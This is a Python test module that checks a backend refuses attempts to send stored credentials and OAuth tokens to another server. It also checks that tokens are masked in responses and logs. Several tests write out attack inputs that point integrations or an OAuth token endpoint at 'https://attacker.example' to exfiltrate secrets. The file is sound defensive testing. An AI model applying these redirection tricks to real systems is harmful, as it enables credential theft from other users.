"""A secret is bound to the origin and the owner it was given for: the attacks of the wave-1 review in
which an admin recovers secrets that are only ever shown masked, replayed against the emulator.

- Retargeting an integration (`baseUrl`, `endpoint`) kept its stored credentials, so the next test sent
  them to the admin's server.
- An integration could name another user's OAuth connection and send its token anywhere.
- A custom provider's `tokenUrl` could move while its client secret was kept.
- `oauth_tokens_store` let an admin write tokens under another user's id, replacing theirs.
- URLs that carry a credential (a Discord- or Teams-style token in the path, `?apikey=`) were answered
  and audited in plaintext.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from google.cloud import firestore

from functions import (
    integrations_create,
    integrations_get,
    integrations_test,
    integrations_update,
    oauth_providers_set,
    oauth_tokens_store,
    request_logs_list,
)
from tests.integration.conftest import all_documents
from tests.support.callables import Answer, call
from tests.support.http_servers import Reply, serving
from tests.support.oauth_server import acme_provider

pytestmark = pytest.mark.usefixtures("private_networks")

TOKEN = "rest-bearer-token-0123456789abcdef"
HEADER_KEY = "header-api-key-0123456789abcdef"


def rest_integration(team: str, base_url: str, uid: str = "admin") -> str:
    answer = call(
        integrations_create,
        {
            "teamId": team,
            "type": "rest",
            "name": "CRM",
            "config": {
                "baseUrl": base_url,
                "auth": {"type": "bearer", "token": TOKEN},
                "headers": {"X-Api-Key": HEADER_KEY},
            },
        },
        uid=uid,
    )
    assert answer.status == 200, answer.body
    integration_id: str = answer.result["id"]
    return integration_id


def update(team: str, integration_id: str, config: dict[str, Any], uid: str = "admin") -> Answer:
    return call(
        integrations_update, {"teamId": team, "integrationId": integration_id, "config": config}, uid=uid
    )


def test_retargeting_an_integration_needs_its_credentials_again(db: firestore.Client, team: str) -> None:
    with serving() as legitimate, serving() as attacker:
        integration_id = rest_integration(team, legitimate.url)
        before = all_documents(db)

        moved = update(team, integration_id, {"baseUrl": attacker.url})
        unchanged = all_documents(db) == before
        tested = call(integrations_test, {"teamId": team, "integrationId": integration_id}, uid="admin")

    assert moved.status == 400
    assert moved.error["details"]["field"] in {"config.auth.token", "config.headers.X-Api-Key"}
    assert unchanged
    assert attacker.received == []
    assert tested.result["success"] is True
    assert len(legitimate.received) == 1


def test_retargeting_with_every_credential_given_again_is_allowed(team: str) -> None:
    with serving() as first, serving() as second:
        integration_id = rest_integration(team, first.url)

        only_token = update(
            team, integration_id, {"baseUrl": second.url, "auth": {"token": "new-token-0123456789"}}
        )
        both = update(
            team,
            integration_id,
            {
                "baseUrl": second.url,
                "auth": {"token": "new-token-0123456789"},
                "headers": {"X-Api-Key": "new-key-0123456789"},
            },
        )
        call(integrations_test, {"teamId": team, "integrationId": integration_id}, uid="admin")

    assert only_token.error["details"]["field"] == "config.headers.X-Api-Key"
    assert both.status == 200, both.body
    [received] = second.received
    assert received.headers["authorization"] == "Bearer new-token-0123456789"
    assert TOKEN not in json.dumps(received.headers)


def test_a_new_path_on_the_same_origin_keeps_the_credentials(team: str) -> None:
    with serving() as server:
        integration_id = rest_integration(team, server.url)

        answer = update(team, integration_id, {"baseUrl": f"{server.url}/v2"})

    assert answer.status == 200, answer.body


def store_connection(team: str, user_id: str, uid: str) -> str:
    answer = call(
        oauth_tokens_store,
        {
            "teamId": team,
            "provider": "hubspot",
            "userId": user_id,
            "accessToken": f"token-of-{user_id}-0123456789",
        },
        uid=uid,
    )
    assert answer.status == 200, answer.body
    oauth_id: str = answer.result["id"]
    return oauth_id


def test_an_admin_cannot_point_an_integration_at_another_users_connection(
    db: firestore.Client, team: str
) -> None:
    owners_connection = store_connection(team, "owner", uid="owner")
    before = all_documents(db)

    answer = call(
        integrations_create,
        {
            "teamId": team,
            "type": "rest",
            "name": "exfiltration",
            "config": {
                "baseUrl": "https://attacker.example",
                "auth": {"type": "oauth", "oauthId": owners_connection},
            },
        },
        uid="admin",
    )

    assert answer.status == 403
    assert answer.error["details"]["field"] == "config.auth.oauthId"
    assert all_documents(db) == before


def test_an_admin_cannot_retarget_an_integration_that_uses_another_users_connection(team: str) -> None:
    owners_connection = store_connection(team, "owner", uid="owner")
    with serving() as server:
        created = call(
            integrations_create,
            {
                "teamId": team,
                "type": "rest",
                "name": "CRM",
                "config": {"baseUrl": server.url, "auth": {"type": "oauth", "oauthId": owners_connection}},
            },
            uid="owner",
        )
        assert created.status == 200, created.body

        by_admin = update(team, created.result["id"], {"baseUrl": "https://attacker.example"})
        by_owner = update(team, created.result["id"], {"baseUrl": f"{server.url}/v2"}, uid="owner")

    assert by_admin.status == 403
    assert by_admin.error["details"]["field"] == "config.auth.oauthId"
    assert by_owner.status == 200


def test_an_admin_uses_their_own_connection(team: str) -> None:
    own = store_connection(team, "admin", uid="admin")

    answer = call(
        integrations_create,
        {
            "teamId": team,
            "type": "slack",
            "name": "Slack",
            "config": {"oauthId": own, "channel": "#support"},
        },
        uid="admin",
    )

    assert answer.status == 200, answer.body


def test_an_unknown_connection_is_refused_naming_it(team: str) -> None:
    answer = call(
        integrations_create,
        {
            "teamId": team,
            "type": "slack",
            "name": "Slack",
            "config": {"oauthId": "slack_nobody", "channel": "#x"},
        },
        uid="owner",
    )

    assert answer.status == 400
    assert answer.error["details"]["field"] == "config.oauthId"


def test_only_an_owner_stores_a_token_for_another_user_and_never_over_theirs(
    db: firestore.Client, team: str
) -> None:
    theirs = store_connection(team, "member", uid="owner")
    before = all_documents(db)

    by_admin = call(
        oauth_tokens_store,
        {"teamId": team, "provider": "google", "userId": "member", "accessToken": "admin-planted-token-0123"},
        uid="admin",
    )
    over_theirs = call(
        oauth_tokens_store,
        {
            "teamId": team,
            "provider": "hubspot",
            "userId": "member",
            "accessToken": "owner-replacing-token-0123",
        },
        uid="owner",
    )

    assert by_admin.status == 403
    assert by_admin.error["details"]["field"] == "userId"
    assert over_theirs.status == 409
    assert over_theirs.error["details"]["field"] == "userId"
    assert all_documents(db) == before
    assert theirs == "hubspot_member"


def test_a_custom_providers_token_endpoint_moves_only_with_its_client_secret(
    db: firestore.Client, team: str
) -> None:
    with serving() as provider_server:
        created = call(oauth_providers_set, acme_provider(provider_server.url, team), uid="admin")
        assert created.status == 200, created.body
        before = all_documents(db)
        moved = {k: v for k, v in acme_provider(provider_server.url, team).items() if k != "clientSecret"}
        moved["tokenUrl"] = "https://attacker.example/token"

        without_secret = call(oauth_providers_set, moved, uid="admin")
        with_secret = call(
            oauth_providers_set, {**moved, "clientSecret": "a-new-client-secret-0123"}, uid="admin"
        )
        renamed = call(oauth_providers_set, {**moved, "name": "Acme renamed"}, uid="admin")

    assert without_secret.status == 400
    assert without_secret.error["details"]["field"] == "clientSecret"
    assert with_secret.status == 200
    assert renamed.status == 200  # same endpoints as now stored: the secret stays
    assert before != all_documents(db)


# ------------------------------------------------------------------ credential-bearing URLs

DISCORD_TOKEN = "AbCdEfGh1234567890abcdefghijklmnopQRSTUV"


def audit_endpoints(team: str, integration_id: str) -> list[str]:
    answer = call(request_logs_list, {"teamId": team, "integrationId": integration_id}, uid="member")
    return [item["endpoint"] for item in answer.result["items"]]


def test_a_webhook_url_with_a_token_in_its_path_is_sealed_masked_and_never_audited(
    db: firestore.Client, team: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with serving(lambda _request: Reply(204, b"")) as server:
        url = f"{server.url}/api/webhooks/123456789012345678/{DISCORD_TOKEN}"
        created = call(
            integrations_create,
            {"teamId": team, "type": "webhook", "name": "Discord", "config": {"url": url, "events": ["*"]}},
            uid="admin",
        )
        assert created.status == 200, created.body
        integration_id = created.result["id"]
        tested = call(integrations_test, {"teamId": team, "integrationId": integration_id}, uid="admin")
        fetched = call(integrations_get, {"teamId": team, "integrationId": integration_id}, uid="member")

    assert tested.result["success"] is True
    assert server.received[0].path.endswith(DISCORD_TOKEN)  # the real URL was called
    assert fetched.result["config"]["url"] == f"http://127.0.0.1/…{url[-4:]}"
    everything = (
        json.dumps([created.body, fetched.body, all_documents(db)], default=str) + capsys.readouterr().out
    )
    assert DISCORD_TOKEN not in everything
    assert all(DISCORD_TOKEN not in endpoint for endpoint in audit_endpoints(team, integration_id))


def test_a_base_url_with_an_api_key_in_its_query_is_sealed_and_scrubbed(
    db: firestore.Client, team: str, capsys: pytest.CaptureFixture[str]
) -> None:
    with serving() as server:
        created = call(
            integrations_create,
            {
                "teamId": team,
                "type": "rest",
                "name": "Legacy API",
                "config": {
                    "baseUrl": f"{server.url}/v1?apikey=query-key-0123456789",
                    "healthCheck": {"path": "/ping"},
                },
            },
            uid="admin",
        )
        assert created.status == 200, created.body
        call(integrations_test, {"teamId": team, "integrationId": created.result["id"]}, uid="admin")

    assert server.received
    assert "query-key-0123456789" not in json.dumps([created.body, all_documents(db)], default=str)
    assert "query-key-0123456789" not in capsys.readouterr().out
